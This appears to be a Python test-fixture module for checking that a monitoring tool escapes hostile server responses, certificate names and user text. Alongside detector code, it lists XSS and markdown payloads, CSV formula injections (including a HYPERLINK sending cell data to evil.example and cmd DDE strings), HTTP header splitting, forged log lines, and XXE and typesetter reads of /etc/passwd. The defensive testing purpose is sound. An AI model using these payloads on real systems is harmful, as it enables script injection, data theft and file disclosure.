"""What targets and configurations may say to harm whoever reads it, and what would have been done if it came through.

What a target says carries `MARK`, which nothing published or logged may hold; what the operator says may be read there,
but never run.
"""

from __future__ import annotations

import html
import json
import re
from base64 import b64encode
from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import quote
from xml.etree import ElementTree

MARK = "h0st1le"
SCRIPT = f"<script>{MARK}()</script>"
FORGED = f"\n2026-01-01T00:00:00.000Z ERROR {MARK}: root logged in\r\n"

ANSWERS = {
    "reason": f"HTTP/1.1 500 {SCRIPT}\r\nContent-Length: 0\r\n\r\n",
    "header": f"HTTP/1.1 500 X\r\nX-{MARK}: {SCRIPT}\r\nServer: {SCRIPT}\r\nContent-Length: 0\r\n\r\n",
    "body": f"HTTP/1.1 500 X\r\nContent-Length: {len(SCRIPT + FORGED)}\r\n\r\n{SCRIPT}{FORGED}",
    "split": f"HTTP/1.1 500 X\nSet-Cookie: a={FORGED}X: y\n\n",
    "place": f"HTTP/1.1 302 X\r\nLocation: gopher://{SCRIPT}{MARK}/\r\nContent-Length: 0\r\n\r\n",
    "loop": f"HTTP/1.1 302 X\r\nLocation: /{MARK}\r\nContent-Length: 0\r\n\r\n",
    "banner": f"{SCRIPT}{FORGED}",
    "escape": f"HTTP/1.1 500 \x1b[2J{MARK}\r\nContent-Length: 4\r\n\r\n\x1b[2J",
}
"""Answers of a server to whatever it is asked, by a name for each."""

COMMON_NAME = f"\u202e{SCRIPT}\r\n"
"""The name in a certificate, and of who issued it."""

RAN = "window.ran"
"""What is true in a browser in which something of this came to run."""

TEXT = f"<script>{RAN}=1</script>\x00\x1b[2J\u202e]]> & \uffff \"' onclick={RAN}=1 {{{{ 7*7 }}}} {{% raw %}} <b>"
"""What anything can be called, in one line."""

NAME = f"""<img src=x onerror="{RAN}=1"><a href='javascript:{RAN}=1' style=color:red>"""

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Pay")',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    '＝HYPERLINK("http://evil.example/")',
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹣1",
)
"""What a spreadsheet would work out."""

TYPESET = ('#panic("x")', '"#read("/etc/passwd")', "= Heading", "*bold* _x_ $x$", "// gone", "\\ [x] {y}", "a`b`c")
"""What a typesetter would carry out."""

TEXTS = (
    TEXT,
    NAME,
    f"\"' onmouseover={RAN}=1 autofocus onfocus={RAN}=1 x='",
    f"--></title></style></script></svg></bdi><svg onload={RAN}=1><iframe srcdoc=x>",
    f"javascript:{RAN}=1",
    f"<![CDATA[<script>{RAN}=1</script>]]><?xml-stylesheet href='x'?><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "Büro <b>&amp;lt;script&amp;gt;</b>",
    "a\r\nSTATUS:CANCELLED\r\nEND:VEVENT\r\n;,\\",
    '","monitoring":"running","x":"',
    "\u202egnp.exe\u2066\x9b31m",
    *FORMULAS,
    *TYPESET,
)
"""What the operator or a customer may have written anywhere."""

MARKDOWN = f"""\
<script>{RAN}=1</script><img src=x onerror="{RAN}=1"><p style="position:fixed" onclick={RAN}=1>
[a](javascript:{RAN}=1) [b](JaVaScRiPt&colon;{RAN}=1) ![c](javascript:{RAN}=1) <javascript:{RAN}=1> [d](vbscript:x)
"""
"""What an incident tells."""

MARKDOWNS = (
    *TEXTS,
    MARKDOWN,
    "![x](https://evil.example/x.png) [c](&#106;avascript:alert(1)) [a](data:text/html,<script>alert(1)</script>)",
    "[a](//evil.example) [b](/admin) [c](?x) [d](#top) [e](file:///etc/passwd)",
    "<javascript:alert(1)> <https://ok.example/?q=<b>>",
    '[a](https://ok.example/ "onmouseover=alert(1)") [b](https://ok.example/"onclick="x)',
    "[r]: javascript:alert(1)\n\n[r]",
    "`<script>`\n\n```html\n<svg onload=alert(1)>\n```",
    "# <svg/onload=alert(1)>\n\n> <iframe src=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x202e;&#0;",
    "<!-- --><style>*{display:none}</style><a href=x style=position:fixed>",
    "</div></li></ul><form action=//evil.example><input>",
    "[" * 3_000 + "(" * 3_000,
    "> " * 1_000 + "x",
)
"""The same, of which each has to come through as text, with nothing but plain markup and links to elsewhere."""

CERTIFIED = (
    f"good.example\0.{MARK}.example",
    f"<script>{MARK}()</script>",
    f"{MARK}\r\n2026-01-01T00:00:00.000Z ERROR {MARK}: root logged in",
    f"{MARK}." * 8_000 + "example",
)
"""Names that a certificate is for: with a byte that ends strings of C, markup, forged lines, and 64 kB of one."""


def spellings(secret: str) -> set[bytes]:
    """Return a secret as it is, and as it might be written into an address, a header or markup."""
    found = {secret, quote(secret, safe=""), html.escape(secret), b64encode(secret.encode()).decode().rstrip("=")}
    return {each.encode() for each in found}


def executable(markup: str) -> list[str]:
    """Return what a browser would run or style in a page besides files of the page itself."""
    parser = _Executable()
    parser.feed(markup)
    parser.close()
    return parser.found


def harm(path: str, content: bytes) -> list[str]:
    """Return what whoever reads a published file would run, take for something else, or not see, by its suffix."""
    suffix = path.rpartition(".")[2]
    if suffix not in ("html", "svg", "atom", "rss", "json", "ics"):
        return []
    text = content.decode()
    found = _UNSEEN.findall(text)
    if suffix in ("svg", "atom", "rss"):
        try:
            elements = list(ElementTree.fromstring(text).iter())
        except ElementTree.ParseError as error:
            return [*found, str(error)]
        # What a reader of feeds takes for markup is text here.
        told = [each for each in elements if each.get("type") == "html" or each.tag == "description"]
        found += [one for each in told for one in executable(each.text or "")]
    if suffix == "json":
        json.loads(text)
    return found if suffix == "ics" else found + executable(text)


_UNSEEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufffe\uffff]")


_READ = ("content", "aria-label", "title", "alt")
"""Attributes of which the text is only read."""


class _Executable(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += self._found(tag, dict(attrs))

    def _found(self, tag: str, attributes: dict[str, str | None]) -> Iterator[str]:
        source = attributes.get("src") or ""
        if tag in ("iframe", "object", "embed", "style", "base") or (
            tag == "script" and (not source or ":" in source or source.startswith("//"))
        ):
            yield f"<{tag}>"
        if "http-equiv" in attributes and (attributes["http-equiv"] or "").lower() == "refresh":
            yield f"<{tag} http-equiv=refresh>"
        for name, value in attributes.items():
            if name in _READ:
                continue
            scheme = "".join((value or "").split()).lower().partition(":")[0]
            if name.startswith("on") or name in ("style", "srcdoc") or scheme in ("javascript", "vbscript", "data"):
                yield f"{name}={value}"
